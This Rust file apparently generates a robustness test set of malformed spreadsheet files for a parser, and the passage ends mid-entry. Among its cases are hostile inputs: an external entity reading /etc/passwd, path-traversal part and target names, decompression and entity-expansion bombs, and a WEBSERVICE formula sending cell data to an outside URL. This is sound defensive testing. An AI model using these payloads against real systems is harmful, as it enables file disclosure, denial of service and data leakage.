//! The set: a name, bytes, and what must come of them.

use super::container::{Entry, dimensions, label, ole, raw_zip, record, xls};
use super::office::*;

/// What must come of a file.
pub enum Expect {
    /// Read: these cells of it (sheet, cell, text), and these notes among others.
    Read(&'static [(&'static str, &'static str, &'static str)], &'static [&'static str]),
    /// Refused with one of these codes.
    Refused(&'static [&'static str]),
}

use Expect::{Read, Refused};

/// Read: `text` stands beside the answer, to its last letter.
fn whole(sheet: &'static str, text: String) -> Expect {
    Read(Vec::leak(vec![(sheet, "A1", "answer"), (sheet, "B1", String::leak(text))]), &[])
}

pub struct Case {
    pub name: String,
    pub bytes: Vec<u8>,
    pub expect: Expect,
}

const A1: &[(&str, &str, &str)] = &[("S1", "A1", "answer")];

/// Every file of the set.
pub fn all() -> Vec<Case> {
    let mut cases = Cases(Vec::new());
    cells(&mut cases);
    sheets(&mut cases);
    parts(&mut cases);
    bombs(&mut cases);
    zips(&mut cases);
    opendocument(&mut cases);
    old(&mut cases);
    binary(&mut cases);
    texts(&mut cases);
    others(&mut cases);
    cases.0
}

struct Cases(Vec<Case>);

impl Cases {
    fn add(&mut self, name: &str, bytes: Vec<u8>, expect: Expect) {
        self.0.push(Case { name: format!("{:03} {}", self.0.len() + 1, name.replace('/', "-")), bytes, expect });
    }
}

fn cells(cases: &mut Cases) {
    let texts = format!("<sst {MAIN}><si><t>zero</t></si><si><t>one</t></si></sst>");
    // Cells beside a good one: the good one stays, the odd one is there or is told.
    let odd: [(&str, &str, Expect); 48] = [
        (
            "far corner",
            r#"<c r="XFD1048576"><v>1</v></c>"#,
            Read(&[("S1", "A1", "answer"), ("S1", "XFD1048576", "1")], &[]),
        ),
        ("column after the last", r#"<c r="XFE1"><v>1</v></c>"#, Read(A1, &["bad-address"])),
        ("row after the last", r#"<c r="A1048577"><v>1</v></c>"#, Read(A1, &["bad-address"])),
        ("row that wraps to 1", r#"<c r="A4294967297"><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("column that wraps", r#"<c r="ZZZZZZZZ1"><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("row 0", r#"<c r="A0"><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("no letters", r#"<c r="17"><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("empty reference", r#"<c r=""><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("negative row", r#"<c r="A-1"><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("dollars", r#"<c r="$B$1"><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("kanji for a reference", r#"<c r="甲1"><v>9</v></c>"#, Read(A1, &["bad-address"])),
        ("the same address twice", r#"<c r="A1"><v>9</v></c>"#, Read(A1, &["same-address"])),
        (
            "backwards",
            r#"<c r="C1"><v>3</v></c><c r="B1"><v>2</v></c>"#,
            Read(&[("S1", "B1", "2"), ("S1", "C1", "3")], &[]),
        ),
        ("no references", r"<c><v>2</v></c><c><v>3</v></c>", Read(&[("S1", "B1", "2"), ("S1", "C1", "3")], &[])),
        ("text index", r#"<c r="B1" t="s"><v>1</v></c>"#, Read(&[("S1", "B1", "one")], &[])),
        ("text index -1", r#"<c r="B1" t="s"><v>-1</v></c>"#, Read(A1, &["text-lost"])),
        ("text index 1.0", r#"<c r="B1" t="s"><v>1.0</v></c>"#, Read(A1, &["text-lost"])),
        ("text index with spaces", r#"<c r="B1" t="s"><v> 1 </v></c>"#, Read(A1, &["text-lost"])),
        ("text index in words", r#"<c r="B1" t="s"><v>one</v></c>"#, Read(A1, &["text-lost"])),
        ("text index past the end", r#"<c r="B1" t="s"><v>2</v></c>"#, Read(A1, &["text-lost"])),
        ("text index huge", r#"<c r="B1" t="s"><v>99999999999999999999</v></c>"#, Read(A1, &["text-lost"])),
        ("no text index", r#"<c r="B1" t="s"><v/></c><c r="C1"><v>3</v></c>"#, Read(&[("S1", "C1", "3")], &[])),
        (
            "#SPILL!",
            r#"<c r="B1" t="e"><v>#SPILL!</v></c><c r="C1"><v>3</v></c>"#,
            Read(&[("S1", "B1", "#SPILL!"), ("S1", "C1", "3")], &["error-value"]),
        ),
        (
            "#CALC!",
            r#"<c r="B1" t="e"><v>#CALC!</v></c><c r="C1"><v>3</v></c>"#,
            Read(&[("S1", "B1", "#CALC!"), ("S1", "C1", "3")], &["error-value"]),
        ),
        ("#FIELD!", r#"<c r="B1" t="e"><v>#FIELD!</v></c>"#, Read(&[("S1", "B1", "#FIELD!")], &["error-value"])),
        ("#BUSY!", r#"<c r="B1" t="e"><v>#BUSY!</v></c>"#, Read(&[("S1", "B1", "#BUSY!")], &["error-value"])),
        ("#PYTHON!", r#"<c r="B1" t="e"><v>#PYTHON!</v></c>"#, Read(&[("S1", "B1", "#PYTHON!")], &["error-value"])),
        (
            "#GETTING_DATA",
            r#"<c r="B1" t="e"><v>#GETTING_DATA</v></c>"#,
            Read(&[("S1", "B1", "#GETTING_DATA")], &["error-value"]),
        ),
        ("#N/A", r#"<c r="B1" t="e"><v>#N/A</v></c>"#, Read(&[("S1", "B1", "#N/A")], &["error-value"])),
        ("cdata value", r#"<c r="B1"><v><![CDATA[6.1]]></v></c>"#, Read(&[("S1", "B1", "6.1")], &[])),
        ("comment in a value", r#"<c r="B1"><v><!-- x -->6.1</v></c>"#, Read(&[("S1", "B1", "6.1")], &[])),
        (
            "inline text and a value",
            r#"<c r="B1" t="inlineStr"><is><t>kept</t></is><v>1</v></c>"#,
            Read(&[("S1", "B1", "kept")], &[]),
        ),
        ("unknown kind", r#"<c r="B1" t="zz"><v>kept</v></c>"#, Read(&[("S1", "B1", "kept")], &["unknown-value"])),
        ("words as a number", r#"<c r="B1" t="n"><v>kept</v></c>"#, Read(&[("S1", "B1", "kept")], &["unknown-value"])),
        ("two values", r#"<c r="B1"><v>1</v><v>2</v></c>"#, Read(A1, &[])),
        ("formula without a result", r#"<c r="B1"><f>SUM(A1:A2)</f></c>"#, Read(A1, &["formula-without-result"])),
        (
            "formula of a service",
            r#"<c r="B1" t="str"><f>WEBSERVICE("http://example.com/"&amp;A1)</f><v>kept</v></c>"#,
            Read(&[("S1", "B1", "kept")], &[]),
        ),
        (
            "shared formula four billion",
            r#"<c r="B1"><f t="shared" ref="B1:B2" si="4000000000">1+1</f><v>2</v></c>"#,
            Read(&[("S1", "B1", "2")], &[]),
        ),
        (
            "array over everything",
            r#"<c r="B1"><f t="array" ref="A1:XFD1048576">1</f><v>2</v></c>"#,
            Read(&[("S1", "B1", "2")], &[]),
        ),
        ("style out of range", r#"<c r="B1" s="4000000000"><v>2</v></c>"#, Read(&[("S1", "B1", "2")], &[])),
        ("lone surrogates", r#"<c r="B1" t="str"><v>a_xD83D_b</v></c>"#, Read(A1, &[])),
        ("infinity", r#"<c r="B1"><v>1e999</v></c><c r="C1"><v>3</v></c>"#, Read(&[("S1", "C1", "3")], &[])),
        ("not a number", r#"<c r="B1"><v>NaN</v></c><c r="C1"><v>3</v></c>"#, Read(&[("S1", "C1", "3")], &[])),
        (
            "date before time",
            r#"<c r="B1" t="d"><v>-9999-99-99</v></c><c r="C1"><v>3</v></c>"#,
            Read(&[("S1", "C1", "3")], &[]),
        ),
        ("a row inside a row", r#"<row r="5"><c r="B5"><v>5</v></c></row>"#, Read(A1, &[])),
        ("cell inside a cell", r#"<c r="B1"><c r="C1"><v>3</v></c></c>"#, Read(A1, &[])),
        (
            "foreign elements",
            r#"<x:ext xmlns:x="y"><x:c r="B1"/></x:ext><c r="C1"><v>3</v></c>"#,
            Read(&[("S1", "C1", "3")], &[]),
        ),
        ("escape sequence in a text", "<c r=\"B1\" t=\"inlineStr\"><is><t>_x001B_[2Jx</t></is></c>", Read(A1, &[])),
    ];
    for (name, cell, expect) in odd {
        cases.add(
            &format!("cell, {name}.xlsx"),
            xlsx_with(&format!("{GOOD}{cell}</row>"), &[("xl/sharedStrings.xml", &texts)]),
            expect,
        );
    }
    for (name, number) in
        [("0", "0"), ("negative", "-1"), ("huge", "4294967297"), ("words", "abc"), ("past the end", "1048577")]
    {
        let data = format!(r#"{ROW}<row r="{number}"><c r="B2"><v>2</v></c></row>"#);
        cases.add(&format!("row number {name}.xlsx"), xlsx(&data), Read(A1, &[]));
    }
    for dimension in ["", "A:A", "#REF!", "B2:A1", "A1:XFD1048576", "1:1", "A1:XFE1"] {
        let text = sheet(ROW).replace("<sheetData>", &format!(r#"<dimension ref="{dimension}"/><sheetData>"#));
        cases.add(
            &format!("dimension {}.xlsx", dimension.replace(':', "-")),
            xlsx_with("", &[("xl/worksheets/sheet1.xml", &text)]),
            Read(A1, &[]),
        );
    }
    let long = "x".repeat(40_000);
    cases.add(
        "forty thousand letters.xlsx",
        beside(&format!(r#"<c r="B1" t="inlineStr"><is><t>{long}</t></is></c>"#)),
        whole("S1", long),
    );
    let ten = "長い文".repeat(1 << 20);
    cases.add(
        "nine megabytes in a cell.xlsx",
        beside(&format!(r#"<c r="B1" t="inlineStr"><is><t>{ten}</t></is></c>"#)),
        Refused(&["limit-ratio"]),
    );
    let many: String = (0..30_000).map(|n| format!(r#"<c r="ZZZZ{n}"><v>{n}</v></c>"#)).collect();
    cases.add("thirty thousand cells nowhere.xlsx", beside(&many), Read(A1, &["bad-address"]));
    let more: String = (0..60_000).map(|n| format!(r#"<c r="ZZZZ{n}"><v>{n}</v></c>"#)).collect();
    cases.add("sixty thousand cells nowhere.xlsx", beside(&more), Refused(&["limit-notes"]));
}

fn sheets(cases: &mut Cases) {
    let second = sheet(r#"<row r="1"><c r="A1" t="inlineStr"><is><t>second</t></is></c></row>"#);
    let two = |sheets: &str, kind: &str, target: &str| {
        let relations = relations(&[("r1", "worksheet", "worksheets/sheet1.xml"), ("r2", kind, target)]);
        xlsx_with(
            ROW,
            &[
                ("xl/workbook.xml", &workbook(&format!(r#"<sheet name="S1" sheetId="1" r:id="r1"/>{sheets}"#))),
                ("xl/_rels/workbook.xml.rels", &relations),
                ("xl/worksheets/sheet2.xml", &second),
            ],
        )
    };
    let one = |name: &str, rest: &str| format!(r#"<sheet name="{name}" sheetId="2" r:id="r2"{rest}/>"#);
    let ordinary = "worksheets/sheet2.xml";
    for (name, bytes, expect) in [
        (
            "two of one name",
            two(&one("S1", ""), "worksheet", ordinary),
            Read(&[("S1", "A1", "answer"), ("S1 (2)", "A1", "second")], &["same-name"]),
        ),
        (
            "names by case",
            two(&one("s1", ""), "worksheet", ordinary),
            Read(&[("S1", "A1", "answer"), ("s1 (2)", "A1", "second")], &["same-name"]),
        ),
        (
            "hidden",
            two(&one("S2", r#" state="veryHidden""#), "worksheet", ordinary),
            Read(&[("S2", "A1", "second")], &["hidden-sheet"]),
        ),
        (
            "unknown state",
            two(&one("S2", r#" state="show""#), "worksheet", ordinary),
            Read(&[("S1", "A1", "answer"), ("S2", "A1", "second")], &[]),
        ),
        ("chart", two(&one("S2", ""), "chartsheet", ordinary), Read(A1, &["no-cells"])),
        ("dialog", two(&one("S2", ""), "dialogsheet", ordinary), Read(A1, &["no-cells"])),
        (
            "macro",
            two(&one("S2", ""), "xlMacrosheet", ordinary),
            Read(&[("S1", "A1", "answer"), ("S2", "A1", "second")], &[]),
        ),
        (
            "without a relation",
            two(r#"<sheet name="S2" sheetId="2" r:id="r9"/>"#, "worksheet", ordinary),
            Read(A1, &["sheet-unread"]),
        ),
        ("part missing", two(&one("S2", ""), "worksheet", "worksheets/none.xml"), Read(A1, &["sheet-unread"])),
        (
            "absolute target",
            two(&one("S2", ""), "worksheet", "/xl/worksheets/sheet2.xml"),
            Read(&[("S2", "A1", "second")], &[]),
        ),
        (
            "target with dots",
            two(&one("S2", ""), "worksheet", "../xl/./worksheets/sheet2.xml"),
            Read(&[("S2", "A1", "second")], &[]),
        ),
        ("target outside", two(&one("S2", ""), "worksheet", "../../../../etc/passwd"), Read(A1, &["sheet-unread"])),
        ("target a file", two(&one("S2", ""), "worksheet", "file:///etc/passwd"), Read(A1, &["sheet-unread"])),
        (
            "target backslashes",
            two(&one("S2", ""), "worksheet", r"worksheets\sheet2.xml"),
            Read(&[("S2", "A1", "second")], &[]),
        ),
        (
            "same part twice",
            two(&one("S2", ""), "worksheet", "worksheets/sheet1.xml"),
            Read(&[("S1", "A1", "answer"), ("S2", "A1", "answer")], &[]),
        ),
        (
            "name of a thousand letters",
            two(&one(&"n".repeat(1_000), ""), "worksheet", ordinary),
            Read(A1, &["overlong"]),
        ),
        ("name that escapes", two(&one("&#x9;&#x202E;x", ""), "worksheet", ordinary), Read(A1, &[])),
        ("no name", two(&one("", ""), "worksheet", ordinary), Read(A1, &[])),
    ] {
        cases.add(&format!("sheet, {name}.xlsx"), bytes, expect);
    }
    let many: String = (1..3_000).map(|n| format!(r#"<sheet name="n{n}" sheetId="{n}" r:id="r1"/>"#)).collect();
    cases.add(
        "three thousand sheets of one part.xlsx",
        xlsx_with(ROW, &[("xl/workbook.xml", &workbook(&many))]),
        Read(&[("n1", "A1", "answer")], &[]),
    );
    let merges: String = (1..50_000).map(|n| format!(r#"<mergeCell ref="A{n}:XFD1048576"/>"#)).collect();
    let merged = sheet(ROW).replace("</sheetData>", &format!("</sheetData><mergeCells>{merges}</mergeCells>"));
    cases.add(
        "fifty thousand huge merges.xlsx",
        xlsx_with("", &[("xl/worksheets/sheet1.xml", &merged)]),
        Read(A1, &[]),
    );
    let backwards = sheet(ROW).replace("</sheetData>", r#"</sheetData><mergeCells><mergeCell ref="C3:A1"/><mergeCell ref="A1"/><mergeCell ref="XFE1:XFF2"/></mergeCells>"#);
    cases.add("merges that are none.xlsx", xlsx_with("", &[("xl/worksheets/sheet1.xml", &backwards)]), Read(A1, &[]));
    let columns = sheet(ROW).replace(
        "<sheetData>",
        &format!("<cols>{}</cols><sheetData>", r#"<col min="1" max="4294967295" width="1e300"/>"#.repeat(1_000)),
    );
    cases.add(
        "four billion columns wide.xlsx",
        xlsx_with("", &[("xl/worksheets/sheet1.xml", &columns)]),
        Read(A1, &[]),
    );
    let names = workbook(r#"<sheet name="S1" sheetId="1" r:id="r1"/>"#).replace("</workbook>", &format!("<definedNames>{}</definedNames></workbook>", r#"<definedName name="n">[1]S1!$A$1</definedName><definedName name="m">'S1'!$XFE$1</definedName><definedName>S1!$B$2:$A$1</definedName>"#.repeat(300)));
    cases.add("names that lead nowhere.xlsx", xlsx_with(ROW, &[("xl/workbook.xml", &names)]), Read(A1, &[]));
}

fn parts(cases: &mut Cases) {
    let replaced = |name: &str, text: &str| xlsx_with(ROW, &[(name, text)]);
    let (wb, ws, rels) = ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels");
    let entity = r#"<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;&a;">]>"#;
    let external = r#"<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>"#;
    for (name, bytes, expect) in [
        ("sheet unclosed", replaced(ws, &format!("<worksheet {MAIN}><sheetData>{ROW}")), Refused(&["not-well-formed"])),
        ("sheet closed wrongly", replaced(ws, &sheet(ROW).replace("</row>", "</rows>")), Refused(&["not-well-formed"])),
        ("sheet with a second root", replaced(ws, &format!("{}<x/>", sheet(ROW))), Refused(&["not-well-formed"])),
        ("sheet empty", replaced(ws, ""), Refused(&["not-well-formed"])),
        ("sheet of zeros", replaced(ws, &"\0".repeat(300)), Refused(&["not-well-formed"])),
        ("sheet entities", replaced(ws, &format!("{entity}{}", sheet(ROW))), Refused(&["entities"])),
        (
            "sheet external entity",
            replaced(ws, &format!("{external}{}", sheet(&ROW.replace("answer", "&a;")))),
            Refused(&["entities"]),
        ),
        ("sheet undeclared entity", replaced(ws, &sheet(&ROW.replace("answer", "&nbsp;"))), Refused(&["entities"])),
        (
            "workbook entities",
            replaced(wb, &format!("{entity}{}", workbook(r#"<sheet name="S1" sheetId="1" r:id="r1"/>"#))),
            Refused(&["entities"]),
        ),
        ("texts entities", replaced("xl/sharedStrings.xml", &format!("{entity}<sst/>")), Refused(&["entities"])),
        ("styles entities", replaced("xl/styles.xml", &format!("{entity}<styleSheet/>")), Refused(&["entities"])),
        ("relations entities", replaced(rels, &format!("{entity}<Relationships/>")), Refused(&["entities"])),
        ("properties entities", replaced("docProps/core.xml", &format!("{entity}<x/>")), Read(A1, &[])),
        ("workbook unclosed", replaced(wb, "<workbook><sheets>"), Refused(&["not-well-formed"])),
        ("workbook without sheets", replaced(wb, &workbook("")), Refused(&["no-sheets"])),
        (
            "relations missing",
            {
                let mut entries = entries(ROW);
                entries.retain(|entry| entry.name != rels.as_bytes());
                raw_zip(&entries)
            },
            Refused(&["no-sheets"]),
        ),
        (
            "workbook missing",
            {
                let mut entries = entries(ROW);
                entries.retain(|entry| entry.name != wb.as_bytes());
                raw_zip(&entries)
            },
            Refused(&["missing-part"]),
        ),
        (
            "sheet missing",
            {
                let mut entries = entries(ROW);
                entries.retain(|entry| entry.name != ws.as_bytes());
                raw_zip(&entries)
            },
            Refused(&["no-sheets"]),
        ),
        (
            "root relations missing",
            {
                let mut entries = entries(ROW);
                entries.retain(|entry| entry.name != b"_rels/.rels");
                raw_zip(&entries)
            },
            Read(A1, &[]),
        ),
        (
            "relations that go round",
            replaced(
                "xl/worksheets/_rels/sheet1.xml.rels",
                &relations(&[("r1", "worksheet", "sheet1.xml"), ("r2", "comments", "sheet1.xml")]),
            ),
            Read(A1, &[]),
        ),
        (
            "external link with a path",
            replaced("xl/externalLinks/externalLink1.xml", r#"<externalLink><externalBook r:id="r1"/></externalLink>"#),
            Read(A1, &[]),
        ),
        (
            "texts that claim 2^64",
            replaced(
                "xl/sharedStrings.xml",
                r#"<sst count="18446744073709551615" uniqueCount="18446744073709551615"><si><t>x</t></si></sst>"#,
            ),
            Read(A1, &[]),
        ),
        (
            "texts that claim a hundred billion",
            replaced("xl/sharedStrings.xml", r#"<sst uniqueCount="100000000000"/>"#),
            Read(A1, &[]),
        ),
        (
            "texts that claim minus one",
            replaced("xl/sharedStrings.xml", r#"<sst uniqueCount="-1"><si><t>x</t></si></sst>"#),
            Read(A1, &[]),
        ),
        (
            "sheet in UTF-16",
            {
                let mut entries = entries(ROW);
                let text: Vec<u8> =
                    [0xFEFF].into_iter().chain(sheet(ROW).encode_utf16()).flat_map(u16::to_le_bytes).collect();
                entries[4] = Entry::new(ws, &text);
                raw_zip(&entries)
            },
            Read(A1, &[]),
        ),
        (
            "sheet in a broken encoding",
            {
                let mut entries = entries(ROW);
                let text: Vec<u8> =
                    sheet(ROW).replace("answer", "\u{1}\u{1}").bytes().map(|b| if b == 1 { 0xFF } else { b }).collect();
                entries[4] = Entry::new(ws, &text);
                raw_zip(&entries)
            },
            Refused(&["not-well-formed"]),
        ),
        (
            "fifty thousand attributes",
            replaced(
                ws,
                &sheet(ROW).replace(
                    "<sheetData>",
                    &format!("<sheetData {}>", (0..50_000).map(|n| format!("a{n}=\"1\" ")).collect::<String>()),
                ),
            ),
            Read(A1, &[]),
        ),
        (
            "an attribute of a megabyte",
            replaced(
                ws,
                &sheet(ROW).replace(
                    "<sheetData>",
                    &format!("<sheetData a=\"{}\">", (0..90_000).map(|n| format!("{n} ")).collect::<String>()),
                ),
            ),
            Read(A1, &[]),
        ),
    ] {
        cases.add(&format!("part, {name}.xlsx"), bytes, expect);
    }
}

fn bombs(cases: &mut Cases) {
    let deep = |times: usize| format!("{}{}", "<x>".repeat(times), "</x>".repeat(times));
    let spaces = " ".repeat(12 << 20);
    let text = |inside: &str| format!("<sst {MAIN}>{inside}</sst>");
    let styles = |count: usize| format!("<styleSheet {MAIN}><cellXfs>{}</cellXfs></styleSheet>", "<xf/>".repeat(count));
    for (name, bytes, expect) in [
        ("spaces", xlsx(&spaces), Refused(&["limit-ratio"])),
        ("cells", xlsx(&format!("{ROW}{}", "<row/>".repeat(2 << 20))), Refused(&["limit-ratio"])),
        (
            "texts",
            xlsx_with(ROW, &[("xl/sharedStrings.xml", &text(&"<si/>".repeat(2 << 20)))]),
            Refused(&["limit-ratio"]),
        ),
        ("styles", xlsx_with(ROW, &[("xl/styles.xml", &styles(2 << 20))]), Refused(&["limit-ratio"])),
        (
            "styles that pack less well",
            xlsx_with(ROW, &[("xl/styles.xml", &styles(70_000))]),
            Refused(&["limit-formats"]),
        ),
        (
            "workbook",
            xlsx_with(ROW, &[("xl/workbook.xml", &format!("{}{spaces}", workbook("")))]),
            Refused(&["limit-ratio"]),
        ),
        (
            "relations",
            xlsx_with(ROW, &[("xl/_rels/workbook.xml.rels", &format!("{spaces}<Relationships/>"))]),
            Refused(&["limit-ratio"]),
        ),
        ("depth 300", xlsx(&deep(300)), Refused(&["limit-depth"])),
        ("depth 100000", xlsx(&deep(100_000)), Refused(&["limit-depth"])),
        ("a picture that nobody reads", xlsx_with(ROW, &[("xl/media/image1.png", &spaces)]), Read(A1, &[])),
        (
            "one text in very many cells",
            {
                let cells: String = (1..=20_000)
                    .map(|row| format!(r#"<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>"#))
                    .collect();
                let long: String = (0..2_500).map(|n| format!("{n:04}")).collect();
                xlsx_with(&cells, &[("xl/sharedStrings.xml", &text(&format!("<si><t>{long}</t></si>")))])
            },
            Refused(&["limit-text-size"]),
        ),
        (
            "half a million and one cells",
            {
                let cells: String = (0..500_001u64)
                    .map(|n| {
                        format!(
                            "<c><v>{}</v></c>{}",
                            n * 7919 % 10_007,
                            if n % 16_000 == 15_999 { "</row><row>" } else { "" }
                        )
                    })
                    .collect();
                xlsx(&format!("<row>{cells}</row>"))
            },
            Refused(&["limit-cells"]),
        ),
    ] {
        cases.add(&format!("bomb, {name}.xlsx"), bytes, expect);
    }
}

fn zips(cases: &mut Cases) {
    let changed = |change: &dyn Fn(&mut Vec<Entry>)| {
        let mut entries = entries(ROW);
        change(&mut entries);
        raw_zip(&entries)
    };
    let good = xlsx(ROW);
    let cut = |size: usize| good[..size].to_vec();
    for (name, bytes, expect) in [
        ("checksum wrong", changed(&|e| e[4].says_crc = Some(1)), Refused(&["checksum"])),
        ("checksum of the workbook wrong", changed(&|e| e[2].says_crc = Some(1)), Refused(&["checksum"])),
        ("size too small", changed(&|e| e[4].says_size = Some(10)), Refused(&["damaged", "checksum"])),
        ("size too large", changed(&|e| e[4].says_size = Some(100_000)), Refused(&["damaged", "checksum"])),
        ("size of four billion", changed(&|e| e[4].says_size = Some(u32::MAX - 1)), Refused(&["limit-part-size"])),
        (
            "entries that overlap",
            changed(&|e| e[4].says_offset = Some(0)),
            Refused(&["damaged", "checksum", "not-well-formed", "no-sheets"]),
        ),
        (
            "entry outside the file",
            changed(&|e| e[4].says_offset = Some(u32::MAX - 9)),
            Refused(&["damaged", "cut-off"]),
        ),
        ("encrypted entry", changed(&|e| e[4].flags = 1), Refused(&["password"])),
        ("unknown method", changed(&|e| e[4].method = Some(99)), Refused(&["damaged", "password"])),
        ("method that is not built in", changed(&|e| e[4].method = Some(14)), Refused(&["damaged"])),
        (
            "stored that says deflated",
            changed(&|e| {
                e[4].deflated = false;
                e[4].method = Some(8)
            }),
            Refused(&["damaged", "checksum"]),
        ),
        (
            "two parts of one name",
            changed(&|e| {
                let twin = e[4].clone();
                e.push(twin)
            }),
            Refused(&["duplicate-part"]),
        ),
        (
            "two parts by case",
            changed(&|e| {
                let mut twin = e[4].clone();
                twin.name.make_ascii_uppercase();
                e.push(twin)
            }),
            Refused(&["duplicate-part"]),
        ),
        (
            "two parts by slash",
            changed(&|e| {
                let mut twin = e[4].clone();
                twin.name = br"xl\worksheets\sheet1.xml".to_vec();
                e.push(twin)
            }),
            Refused(&["duplicate-part"]),
        ),
        (
            "two unread parts of one name",
            changed(&|e| {
                e.push(Entry::new("xl/x", b"1"));
                e.push(Entry::new("xl/x", b"2"))
            }),
            Read(A1, &[]),
        ),
        ("absolute names", changed(&|e| e.push(Entry::new("/etc/passwd", b"x"))), Read(A1, &[])),
        ("names that climb", changed(&|e| e.push(Entry::new("../../../evil.txt", b"x"))), Read(A1, &[])),
        ("names of a drive", changed(&|e| e.push(Entry::new(r"C:\evil.txt", b"x"))), Read(A1, &[])),
        ("a name with a zero", changed(&|e| e.push(Entry::new("xl/\0x", b"x"))), Read(A1, &[])),
        (
            "a name of sixty thousand letters",
            changed(&|e| e.push(Entry::new(&"n".repeat(60_000), b"x"))),
            Read(A1, &[]),
        ),
        ("no name", changed(&|e| e.push(Entry::new("", b"x"))), Read(A1, &[])),
        (
            "five thousand entries",
            changed(&|e| e.extend((0..5_000).map(|n| Entry::new(&format!("x/{n}"), b"")))),
            Refused(&["limit-entries"]),
        ),
        ("ten bytes in front", [&b"0123456789"[..], &good].concat(), Refused(&["not-a-spreadsheet"])),
        ("bytes behind", [&good[..], &[0; 1000]].concat(), Read(A1, &[])),
        ("cut to 10 %", cut(good.len() / 10), Refused(&["cut-off"])),
        ("cut to 50 %", cut(good.len() / 2), Refused(&["cut-off"])),
        ("cut to 99 %", cut(good.len() * 99 / 100), Refused(&["cut-off", "damaged"])),
        (
            "only the end",
            b"PK\x05\x06".iter().copied().chain([0; 18]).collect(),
            Refused(&["is-archive", "damaged", "cut-off"]),
        ),
        ("only the beginning", b"PK\x03\x04".to_vec(), Refused(&["cut-off"])),
        (
            "a directory that says 65535",
            {
                let mut bytes = good.clone();
                let end = bytes.len() - 22;
                bytes[end + 8..end + 12].fill(0xFF);
                bytes
            },
            Refused(&["limit-entries"]),
        ),
        (
            "a directory far away",
            {
                let mut bytes = good.clone();
                let end = bytes.len() - 22;
                bytes[end + 16..end + 20].fill(0xF0);
                bytes
            },
            Refused(&["damaged", "cut-off"]),
        ),
    ] {
        cases.add(&format!("zip, {name}.xlsx"), bytes, expect);
    }
}

fn opendocument(cases: &mut Cases) {
    let ordinary = ods_row("", "", "answer");
    let cell = r#"office:value-type="string""#;
    for (name, bytes, expect) in [
        ("table unclosed", ods_raw("<office:document-content><table:table>"), Refused(&["not-well-formed"])),
        (
            "cell unclosed",
            ods_raw("<office:document-content><table:table><table:table-row><table:table-cell>"),
            Refused(&["not-well-formed"]),
        ),
        (
            "no content",
            raw_zip(&[Entry::new("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]),
            Refused(&["missing-part"]),
        ),
        ("no tables", ods(""), Refused(&["no-sheets"])),
        (
            "entities",
            ods_raw(&format!(
                "<!DOCTYPE x [<!ENTITY a 'b'>]><office:document-content>{}</office:document-content>",
                table(&ordinary)
            )),
            Refused(&["entities"]),
        ),
        (
            "locked",
            raw_zip(&[
                Entry::new("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                Entry::new("META-INF/manifest.xml", b"<m><encryption-data/></m>"),
                Entry::new("content.xml", b"\x01\x02\x03"),
            ]),
            Refused(&["password"]),
        ),
        (
            "a million rows of one answer",
            ods(&table(&ods_row(r#"table:number-rows-repeated="1048576""#, "", "answer"))),
            Read(A1, &["repeated"]),
        ),
        (
            "sixteen thousand columns of one answer",
            ods(&table(&ods_row("", r#"table:number-columns-repeated="16384""#, "answer"))),
            Read(A1, &["repeated"]),
        ),
        (
            "ninety-eight million cells",
            ods(&table(&ods_row(
                r#"table:number-rows-repeated="1048576""#,
                r#"table:number-columns-repeated="100""#,
                "answer",
            ))),
            Read(A1, &["repeated"]),
        ),
        (
            "a million by sixteen thousand",
            ods(&table(&ods_row(
                r#"table:number-rows-repeated="1048576""#,
                r#"table:number-columns-repeated="16384""#,
                "answer",
            ))),
            Refused(&["limit-cells"]),
        ),
        (
            "four billion repeats",
            ods(&table(&format!("{ordinary}{}", ods_row(r#"table:number-rows-repeated="4294967295""#, "", "x")))),
            Read(A1, &["repeated"]),
        ),
        (
            "a number too large to repeat",
            ods(&table(&format!(
                "{ordinary}{}",
                ods_row(r#"table:number-rows-repeated="99999999999999999999""#, "", "x")
            ))),
            Read(A1, &[]),
        ),
        (
            "minus five repeats",
            ods(&table(&format!("{ordinary}{}", ods_row(r#"table:number-rows-repeated="-5""#, "", "x")))),
            Read(A1, &[]),
        ),
        (
            "a gap of a million rows",
            ods(&table(&format!(
                r#"{ordinary}<table:table-row table:number-rows-repeated="1048570"/>{}"#,
                ods_row("", "", "last")
            ))),
            Read(&[("S1", "A1", "answer"), ("S1", "A1048572", "last")], &[]),
        ),
        (
            "rows past the end",
            ods(&table(&format!(
                r#"{ordinary}<table:table-row table:number-rows-repeated="1048576"/>{}"#,
                ods_row("", "", "lost")
            ))),
            Read(A1, &["bad-address"]),
        ),
        (
            "columns past the end",
            ods(&table(&format!(
                r#"<table:table-row><table:table-cell {cell}><text:p>answer</text:p></table:table-cell><table:table-cell table:number-columns-repeated="99999"/><table:table-cell {cell}><text:p>lost</text:p></table:table-cell></table:table-row>"#
            ))),
            Read(A1, &["bad-address"]),
        ),
        (
            "covered cells",
            ods(&table(&format!(
                r#"<table:table-row><table:table-cell {cell}><text:p>answer</text:p></table:table-cell><table:covered-table-cell {cell}><text:p>under</text:p></table:covered-table-cell></table:table-row>"#
            ))),
            Read(&[("S1", "A1", "answer"), ("S1", "B1", "under")], &[]),
        ),
        (
            "a table in a cell",
            ods(&table(&format!(
                "<table:table-row><table:table-cell {cell}><text:p>answer</text:p>{}</table:table-cell></table:table-row>",
                table(&ods_row("", "", "inner"))
            ))),
            Read(A1, &[]),
        ),
        (
            "two tables of one name",
            ods(&format!("{}{}", table(&ordinary), table(&ods_row("", "", "second")))),
            Read(&[("S1", "A1", "answer"), ("S1 (2)", "A1", "second")], &["same-name"]),
        ),
        ("a billion spaces", ods(&table(&ods_row("", "", r#"answer<text:s text:c="1000000000"/>"#))), Read(&[], &[])),
        (
            "deep spans",
            ods(&table(&ods_row(
                "",
                "",
                &format!("{}answer{}", "<text:span>".repeat(300), "</text:span>".repeat(300)),
            ))),
            Refused(&["limit-depth"]),
        ),
        (
            "spans over everything",
